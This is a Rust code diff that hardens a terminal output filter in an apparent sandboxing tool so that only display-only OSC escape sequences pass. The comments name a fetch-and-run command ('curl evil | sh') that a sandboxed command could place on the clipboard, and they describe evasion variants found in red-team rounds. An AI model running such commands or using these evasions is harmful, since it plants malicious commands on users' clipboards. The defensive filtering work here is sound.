@@ -257,79 +257,269 @@ impl Drop for Relay {
     }
 }
 
-/// Drops the clipboard writes (`OSC 52`) from what the command writes to the caller's
-/// terminal: a sandboxed command could otherwise put `curl evil | sh` on the user's clipboard
-/// (red-team round 13). Everything else passes unchanged; a sequence split across writes is
-/// followed across them.
+/// Filters the operating-system commands (`OSC`) the command writes to the caller's
+/// terminal: only those a terminal merely displays pass — titles (0, 1, 2), colours (4,
+/// 10–19, 104, 110–119), the working directory (7), hyperlinks (8) and shell-integration
+/// marks (133, 633) — and every other is dropped whole, clipboard writes first of all (`OSC
+/// 52`: a sandboxed command could put `curl evil | sh` on the user's clipboard, red-team
+/// round 13; iTerm2's `1337` also writes files and the clipboard, kitty's `5522` the
+/// clipboard). The number is read as terminals read it (`052` is 52), and an OSC may start
+/// with `ESC ]`, the C1 byte 0x9d or its UTF-8 form `C2 9D` (terminals that honour C1
+/// controls; red-team round 15 passed `052` and both C1 forms through). Everything else passes
+/// unchanged; a sequence split across writes is followed across them.
 #[derive(Default)]
 pub(crate) struct ClipboardFilter {
     state: ClipState,
-    /// Bytes of an `ESC ] digits` prefix not yet known to be a clipboard write.
+    /// The introducer and digits of an OSC not yet classified, or a held `ESC`/`C2`.
     pending: Vec<u8>,
+    /// Continuation bytes still expected of a UTF-8 character in the text (a 0x9d there is
+    /// part of a character, not an introducer).
+    utf8_left: u8,
 }
 
 #[derive(Default, Clone, Copy, PartialEq, Eq)]
 enum ClipState {
     #[default]
     Text,
+    /// After `ESC` (held in `pending`).
     Esc,
+    /// After a `C2` lead byte in the text (held in `pending`).
+    C2,
+    /// Reading the OSC's number.
     OscNumber,
-    Drop,
-    DropEsc,
+    /// Inside an OSC that passes; `true` after an `ESC` or `C2` in it.
+    Pass(bool),
+    /// Inside an OSC that is dropped; `true` after an `ESC` or `C2` in it.
+    Drop(bool),
+}
+
+/// Whether `bytes` start an escape sequence a terminal may answer: `ESC`, or a C1 CSI, OSC or
+/// DCS introducer — raw (not inside a UTF-8 character) or in UTF-8 (`C2 9B`…): a query in C1
+/// form gets its reply too (red-team round 17).
+fn starts_a_sequence(bytes: &[u8]) -> bool {
+    bytes.iter().enumerate().any(|(i, &b)| {
+        let before = i.checked_sub(1).map(|p| bytes[p]);
+        b == 0x1b
+            || (matches!(b, 0x90 | 0x9b | 0x9d)
+                && (before == Some(0xc2) || before.is_none_or(|p| p < 0x80)))
+    })
+}
+
+/// How many continuation bytes follow the UTF-8 lead byte `b` (0 for any other byte; a C2
+/// lead is handled on its own: `C2 9D` is an introducer).
+fn continuation_bytes(b: u8) -> u8 {
+    match b {
+        0xc3..=0xdf => 1,
+        0xe0..=0xef => 2,
+        0xf0..=0xf7 => 3,
+        _ => 0,
+    }
+}
+
+/// The controls a terminal runs or ignores without leaving an escape sequence: C0 but CAN,
+/// SUB and ESC (BEL ends an OSC), and DEL.
+fn is_skipped_control(b: u8) -> bool {
+    matches!(b, 0x00..=0x06 | 0x08..=0x17 | 0x19 | 0x1c..=0x1f | 0x7f)
+}
+
+/// The OSC numbers a terminal only displays.
+fn osc_passes(number: u32) -> bool {
+    matches!(number, 0..=2 | 4 | 7 | 8 | 10..=19 | 104 | 110..=119 | 133 | 633)
 }
 
 impl ClipboardFilter {
     /// Appends to `out` what of `input` may reach the terminal.
     pub(crate) fn feed(&mut self, input: &[u8], out: &mut Vec<u8>) {
         for &b in input {
-            match self.state {
-                ClipState::Text => {
-                    if b == 0x1b {
-                        self.pending.clear();
-                        self.pending.push(b);
-                        self.state = ClipState::Esc;
-                    } else {
+            self.byte(b, out);
+        }
+    }
+
+    fn byte(&mut self, b: u8, out: &mut Vec<u8>) {
+        match self.state {
+            ClipState::Text => self.text(b, out),
+            // A C0 control (but CAN, SUB and ESC) or DEL inside an escape sequence is run or
+            // ignored by the terminal, which stays in the sequence (`ESC BS ]` still opens an
+            // OSC; `]0 BS 52` is OSC 052): the control is let through ahead of the held
+            // sequence (the terminal runs it either way), DEL dropped, and the sequence read
+            // on as the terminal reads it (red-team round 17).
+            ClipState::Esc | ClipState::OscNumber if is_skipped_control(b) => {
+                if b != 0x7f {
+                    out.push(b);
+                }
+            }
+            ClipState::Esc => {
+                if b == b']' {
+                    self.pending.push(b);
+                    self.state = ClipState::OscNumber;
+                } else {
+                    out.append(&mut self.pending);
+                    self.state = ClipState::Text;
+                    self.text(b, out);
+                }
+            }
+            ClipState::C2 => {
+                if b == 0x9d {
+                    self.pending.push(b);
+                    self.state = ClipState::OscNumber;
+                } else {
+                    // An ordinary two-byte character (or a broken one): text.
+                    out.append(&mut self.pending);
+                    self.utf8_left = 0;
+                    self.state = ClipState::Text;
+                    if (0x80..0xc0).contains(&b) {
                         out.push(b);
+                    } else {
+                        self.text(b, out);
                     }
                 }
-                ClipState::Esc => {
-                    if b == b']' {
-                        self.pending.push(b);
-                        self.state = ClipState::OscNumber;
-                    } else {
-                        out.append(&mut self.pending);
-                        if b == 0x1b {
-                            self.pending.push(b);
-                        } else {
-                            out.push(b);
-                            self.state = ClipState::Text;
-                        }
-                    }
+            }
+            ClipState::OscNumber => {
+                let digits = self
+                    .pending
+                    .iter()
+                    .rev()
+                    .take_while(|d| d.is_ascii_digit())
+                    .count();
+                if b.is_ascii_digit() && digits < 8 {
+                    self.pending.push(b);
+                    return;
                 }
-                ClipState::OscNumber => {
-                    if b.is_ascii_digit() && self.pending.len() < 8 {
-                        self.pending.push(b);
-                    } else if b == b';' && &self.pending[2..] == b"52" {
-                        self.pending.clear();
-                        self.state = ClipState::Drop;
-                    } else {
-                        out.append(&mut self.pending);
-                        out.push(b);
-                        self.state = ClipState::Text;
-                    }
+                if b.is_ascii_digit() {
+                    // Longer than any number the filter reads (`0000000052` is 52 to a
+                    // terminal; red-team round 16): dropped whole.
+                    self.pending.clear();
+                    self.state = ClipState::Drop(false);
+                    return;
                 }
-                ClipState::Drop => match b {
-                    0x07 => self.state = ClipState::Text,
-                    0x1b => self.state = ClipState::DropEsc,
-                    _ => {}
-                },
-                ClipState::DropEsc => {
-                    self.state = if b == b'\\' {
-                        ClipState::Text
-                    } else {
-                        ClipState::Drop
-                    };
+                let start = self.pending.len() - digits;
+                let number = std::str::from_utf8(&self.pending[start..])
+                    .ok()
+                    .and_then(|d| d.parse::<u32>().ok());
+                let passes = digits > 0 && number.is_some_and(osc_passes);
+                if passes {
+                    out.append(&mut self.pending);
+                    self.state = ClipState::Pass(false);
+                    self.in_osc(b, out, true);
+                } else {
+                    self.pending.clear();
+                    self.state = ClipState::Drop(false);
+                    self.in_osc(b, out, false);
                 }
+            }
+            ClipState::Pass(_) => self.in_osc(b, out, true),
+            ClipState::Drop(_) => self.in_osc(b, out, false),
+        }
+    }
+
+    /// Holds `b` (an `ESC`, a `C2` or an introducer) in `pending`, in `state`.
+    fn hold(&mut self, b: u8, state: ClipState) {
+        self.pending.clear();
+        self.pending.push(b);
+        self.state = state;
+    }
+
+    fn text(&mut self, b: u8, out: &mut Vec<u8>) {
+        if self.utf8_left > 0 && (0x80..0xc0).contains(&b) {
+            self.utf8_left -= 1;
+            out.push(b);
+            return;
+        }
+        self.utf8_left = 0;
+        match b {
+            0x1b => self.hold(b, ClipState::Esc),
+            0xc2 => self.hold(b, ClipState::C2),
+            // A C1 OSC byte on its own (not inside a character).
+            0x9d => self.hold(b, ClipState::OscNumber),
+            _ => {
+                self.utf8_left = continuation_bytes(b);
+                out.push(b);
+            }
+        }
+    }
+
+    /// A byte inside an OSC. It ends at BEL or ST (`ESC \\`, 0x9c, `C2 9C`); CAN and SUB
+    /// abort it; `ESC` ends it unterminated and starts what follows (red-team round 16: a `C2
+    /// ESC` in a title hid the `ESC ]52` after it); a C1 control (another introducer: 0x9d,
+    /// `C2 9D`) ends a passing one and is read as text is. Other C0 controls and DEL are
+    /// dropped, as terminals ignore them there. UTF-8 characters of the payload pass whole (a
+    /// 0x9d inside one is part of the character to a UTF-8 terminal).
+    fn in_osc(&mut self, b: u8, out: &mut Vec<u8>, pass: bool) {
+        let after = matches!(self.state, ClipState::Pass(true) | ClipState::Drop(true));
+        let keep = |out: &mut Vec<u8>, bytes: &[u8]| {
+            if pass {
+                out.extend_from_slice(bytes);
+            }
+        };
+        // Inside the OSC; `held`: after an `ESC` or `C2` in it.
+        let inside = |held: bool| {
+            if pass {
+                ClipState::Pass(held)
+            } else {
+                ClipState::Drop(held)
+            }
+        };
+        if after {
+            let held = self.pending.pop();
+            self.pending.clear();
+            match (held, b) {
+                (Some(0x1b), b'\\') | (Some(0xc2), 0x9c) => {
+                    keep(out, &[held.unwrap_or_default(), b]);
+                    self.state = ClipState::Text;
+                }
+                (Some(0xc2), 0xa0..=0xbf) => {
+                    keep(out, &[0xc2, b]);
+                    self.state = inside(false);
+                }
+                (Some(0xc2), 0x80..=0x9f) => {
+                    // A C1 control in UTF-8 (`C2 9D` starts a new OSC): the OSC ends here.
+                    self.hold(0xc2, ClipState::C2);
+                    self.byte(b, out);
+                }
+                (Some(0xc2), _) => {
+                    // A broken character: the C2 is payload, the byte read afresh.
+                    keep(out, &[0xc2]);
+                    self.state = inside(false);
+                    self.in_osc(b, out, pass);
+                }
+                _ => {
+                    // `ESC` and anything but `\\`: the OSC ends unterminated; the ESC starts
+                    // what follows.
+                    self.hold(0x1b, ClipState::Esc);
+                    self.byte(b, out);
+                }
+            }
+            return;
+        }
+        if self.utf8_left > 0 && (0x80..0xc0).contains(&b) {
+            self.utf8_left -= 1;
+            keep(out, &[b]);
+            return;
+        }
+        self.utf8_left = 0;
+        match b {
+            0x07 | 0x9c => {
+                keep(out, &[b]);
+                self.state = ClipState::Text;
+            }
+            0x1b | 0xc2 => self.hold(b, inside(true)),
+            // CAN and SUB abort the OSC.
+            0x18 | 0x1a => {
+                self.state = ClipState::Text;
+                self.text(b, out);
+            }
+            // Other C0 controls and DEL: ignored by the terminal inside the OSC; dropped here.
+            0x00..=0x1f | 0x7f => {}
+            // A C1 control (another sequence's introducer) ends a passing OSC; the byte is
+            // then read as text is. A dropped one goes on being dropped to its end.
+            0x80..=0x9f if pass => {
+                self.state = ClipState::Text;
+                self.text(b, out);
+            }
+            0x80..=0x9f => {}
+            _ => {
+                self.utf8_left = continuation_bytes(b);
+                keep(out, &[b]);
             }
         }
     }
@@ -354,7 +544,7 @@ fn pump_output(shared: &Shared, master: RawFd) {
         while st.asking && st.held.len() >= HOLD_LIMIT {
             st = shared.changed.wait(st).unwrap_or_else(|p| p.into_inner());
         }
-        if buf[..n].contains(&0x1b) {
+        if starts_a_sequence(&buf[..n]) {
             st.last_escape = Some(Instant::now());
         }
         shown.clear();
